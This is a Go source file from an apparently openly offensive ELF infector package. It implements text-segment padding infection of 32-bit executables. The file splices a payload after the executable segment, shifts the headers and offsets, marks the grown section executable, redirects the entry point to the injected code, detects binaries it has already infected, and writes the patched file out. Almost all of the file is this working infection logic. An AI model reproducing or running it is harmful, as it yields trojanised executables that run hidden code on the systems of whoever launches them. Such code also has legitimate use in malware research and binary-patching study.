package elfinfect

import (
	"bytes"
	"debug/elf"
	"fmt"
	"math"

	"github.com/go-kit/log/level"
	"github.com/pkg/errors"

	"github.com/devttys0/botox/elf32"
	"github.com/devttys0/botox/elfio"
	"github.com/devttys0/botox/payload"
)

const (
	MOD_ENTRY_POINT             = "modified entry point"
	TEXT_SEG_FOUND              = "found executable LOAD segment"
	INCREASED_TEXT_SEG_P_FILESZ = "increased text segment p_filesz and p_memsz"
	INCREASE_PHEADER_AT_INDEX   = "moving program header"
	UPDATE_SECTION_PAST_TEXT    = "moving section past text segment"
	EXTEND_SECTION_HEADER_ENTRY = "extending section holding the insertion point"
	MOVE_HEADER_TABLE           = "moving header table"
	WRITING_PAYLOAD             = "writing payload into the binary"
)

// entryGuardLen is how much of the payload is compared against the bytes at
// the current entry point to spot a file that has already been patched.
const entryGuardLen = 16

func hex32(v uint32) string {
	return fmt.Sprintf("0x%08x", v)
}

// add32 returns a+b, failing when the sum does not fit a 32-bit field.
func add32(what string, a, b uint32) (uint32, error) {
	if sum := uint64(a) + uint64(b); sum <= math.MaxUint32 {
		return uint32(sum), nil
	}
	return 0, errors.Wrapf(elf32.ErrFormat, "%s 0x%x + 0x%x overflows", what, a, b)
}

// PlanTextSegmentPadding works out where the payload goes and every header
// change needed to make room for it, without modifying anything. A nil
// provider selects the built-in stub for the target architecture.
//
// The payload is placed right after the file image of the first executable
// LOAD segment, and the file is opened up by one full alignment unit there so
// everything after it keeps its offset modulo the alignment.
func (t *TargetBin) PlanTextSegmentPadding(p payload.Provider) (*Plan, error) {
	h := t.Elf.Header()
	if typ := h.Type(); typ != elf.ET_EXEC {
		return nil, errors.Wrapf(ErrUnsupportedFileType, "file type is %s", typ)
	}
	seg, err := t.TextSegment()
	if err != nil {
		return nil, err
	}
	level.Debug(t.logger).Log("msg", TEXT_SEG_FOUND, "index", seg.Index(),
		"start", hex32(seg.Off()), "end", hex32(seg.Off()+seg.Filesz()), "align", hex32(seg.Align()))

	plan := &Plan{
		Segment:     seg.Index(),
		OldEntry:    h.Entry(),
		GrowSection: -1,
	}
	if arch, err := t.Elf.Arch(); err == nil {
		plan.Arch = arch
	}
	if p == nil {
		if p, err = t.DefaultProvider(); err != nil {
			return nil, err
		}
	}

	code, err := p.Generate(plan.OldEntry, t.Elf.ByteOrder())
	if err != nil {
		return nil, err
	}
	if len(code) == 0 {
		return nil, ErrEmptyPayload
	}
	t.Payload.Reset()
	t.Payload.Write(code)
	logPayload(t.logger, code)

	n := len(code)
	if n > entryGuardLen {
		n = entryGuardLen
	}
	cur, err := t.entryBytes(n)
	if err != nil {
		return nil, err
	}
	if bytes.Equal(cur, code[:n]) {
		return nil, errors.Wrapf(ErrAlreadyPatched, "entry point 0x%x", plan.OldEntry)
	}

	plan.Align = seg.Align()
	if uint64(len(code)) > uint64(plan.Align) {
		return nil, errors.Wrapf(ErrPayloadTooLarge, "payload is %d bytes, segment %d alignment is %d",
			len(code), seg.Index(), plan.Align)
	}
	plan.PayloadLen = len(code)
	plan.Payload = make([]byte, plan.Align)
	copy(plan.Payload, code)

	a := plan.Align
	ins, err := add32("segment end", seg.Off(), seg.Filesz())
	if err != nil {
		return nil, err
	}
	if _, err := add32("inserted block end", ins, a); err != nil {
		return nil, err
	}
	if _, err := add32("segment file size", seg.Filesz(), a); err != nil {
		return nil, err
	}
	if _, err := add32("segment memory size", seg.Memsz(), a); err != nil {
		return nil, err
	}
	entry := int64(seg.Vaddr()) - int64(seg.Off()) + int64(ins)
	if entry < 0 || entry > math.MaxUint32 {
		return nil, errors.Wrapf(elf32.ErrFormat, "segment %d address 0x%x does not fit offset 0x%x",
			seg.Index(), seg.Vaddr(), seg.Off())
	}
	plan.InsertionOffset = ins
	plan.NewEntry = uint32(entry)

	for _, ph := range t.Elf.Progs() {
		if ph.Index() != seg.Index() && ph.Off() >= ins {
			if _, err := add32(fmt.Sprintf("segment %d offset", ph.Index()), ph.Off(), a); err != nil {
				return nil, err
			}
			plan.Progs = append(plan.Progs, ph.Index())
		}
	}
	for _, sh := range t.Elf.Sections() {
		if sh.Offset() >= ins {
			if _, err := add32(fmt.Sprintf("section %d offset", sh.Index()), sh.Offset(), a); err != nil {
				return nil, err
			}
			plan.Sections = append(plan.Sections, sh.Index())
			continue
		}
		if plan.GrowSection >= 0 || sh.Type() == elf.SHT_NULL || sh.Type() == elf.SHT_NOBITS {
			continue
		}
		// The insertion point is the end of the segment's file image, so the
		// section that ends exactly there is the one to grow.
		if uint64(ins) <= uint64(sh.Offset())+uint64(sh.Size()) {
			if _, err := add32(fmt.Sprintf("section %d size", sh.Index()), sh.Size(), a); err != nil {
				return nil, err
			}
			plan.GrowSection = sh.Index()
		}
	}
	if plan.ShiftShoff = h.Shoff() >= ins; plan.ShiftShoff {
		if _, err := add32("section header offset", h.Shoff(), a); err != nil {
			return nil, err
		}
	}
	if plan.ShiftPhoff = h.Phoff() >= ins; plan.ShiftPhoff {
		if _, err := add32("program header offset", h.Phoff(), a); err != nil {
			return nil, err
		}
	}

	return plan, t.Elf.Err()
}

// applyPlan makes the header changes described by plan and splices in the
// padded payload. Section and program headers are rewritten before the
// table offsets move so every write lands on the original table.
func (t *TargetBin) applyPlan(plan *Plan) error {
	f := t.Elf
	a := plan.Align

	// Names go through .shstrtab, which may be among the moved sections.
	names := make(map[int]string, len(plan.Sections)+1)
	for _, i := range plan.Sections {
		names[i] = f.Section(i).Name()
	}
	if plan.GrowSection >= 0 {
		names[plan.GrowSection] = f.Section(plan.GrowSection).Name()
	}

	seg := f.Prog(plan.Segment)
	seg.SetFilesz(seg.Filesz() + a)
	seg.SetMemsz(seg.Memsz() + a)
	level.Debug(t.logger).Log("msg", INCREASED_TEXT_SEG_P_FILESZ, "by", hex32(a),
		"filesz", hex32(seg.Filesz()), "memsz", hex32(seg.Memsz()))

	for _, i := range plan.Progs {
		ph := f.Prog(i)
		level.Debug(t.logger).Log("msg", INCREASE_PHEADER_AT_INDEX, "index", i, "type", ph.Type(),
			"from", hex32(ph.Off()), "to", hex32(ph.Off()+a))
		ph.SetOff(ph.Off() + a)
	}

	for _, i := range plan.Sections {
		sh := f.Section(i)
		level.Debug(t.logger).Log("msg", UPDATE_SECTION_PAST_TEXT, "index", i, "name", names[i],
			"from", hex32(sh.Offset()), "to", hex32(sh.Offset()+a))
		sh.SetOffset(sh.Offset() + a)
	}
	if plan.GrowSection >= 0 {
		sh := f.Section(plan.GrowSection)
		level.Debug(t.logger).Log("msg", EXTEND_SECTION_HEADER_ENTRY, "index", plan.GrowSection, "name", names[plan.GrowSection],
			"size", hex32(sh.Size()+a))
		sh.SetSize(sh.Size() + a)
		sh.SetFlags(sh.Flags() | elf.SHF_ALLOC | elf.SHF_EXECINSTR)
	}

	h := f.Header()
	if plan.ShiftShoff {
		level.Debug(t.logger).Log("msg", MOVE_HEADER_TABLE, "table", "section", "to", hex32(h.Shoff()+a))
		h.SetShoff(h.Shoff() + a)
	}
	if plan.ShiftPhoff {
		level.Debug(t.logger).Log("msg", MOVE_HEADER_TABLE, "table", "program", "to", hex32(h.Phoff()+a))
		h.SetPhoff(h.Phoff() + a)
	}
	h.SetEntry(plan.NewEntry)
	level.Debug(t.logger).Log("msg", MOD_ENTRY_POINT, "from", hex32(plan.OldEntry), "to", hex32(plan.NewEntry))

	if err := f.Err(); err != nil {
		return err
	}

	level.Debug(t.logger).Log("msg", WRITING_PAYLOAD, "offset", hex32(plan.InsertionOffset), "len", len(plan.Payload))
	if err := t.View.Insert(int64(plan.InsertionOffset), plan.Payload); err != nil {
		return err
	}

	// Every offset computed before the splice is stale now.
	nf, err := elf32.New(t.View)
	if err != nil {
		return errors.Wrap(ErrVerification, err.Error())
	}
	t.Elf = nf
	return nil
}

// TextSegmentPaddingInfection plans and applies the patch, checks the result
// and writes it to t.OutPath. With DryRun only the plan is returned.
func (t *TargetBin) TextSegmentPaddingInfection(p payload.Provider, opts InfectOpts) (*Plan, error) {
	plan, err := t.PlanTextSegmentPadding(p)
	if err != nil {
		return nil, err
	}
	if opts&DryRun == DryRun {
		return plan, nil
	}
	if err := t.applyPlan(plan); err != nil {
		return nil, err
	}
	if err := t.verify(plan); err != nil {
		return nil, err
	}
	if err := t.commit(); err != nil {
		return nil, err
	}
	level.Info(t.logger).Log("msg", "patched", "path", t.OutPath,
		"entry", hex32(plan.NewEntry), "original_entry", hex32(plan.OldEntry))
	return plan, nil
}

func (t *TargetBin) commit() error {
	data, err := t.View.Bytes()
	if err != nil {
		return err
	}
	return elfio.WriteFileAtomic(t.fs, t.OutPath, data, t.Mode)
}
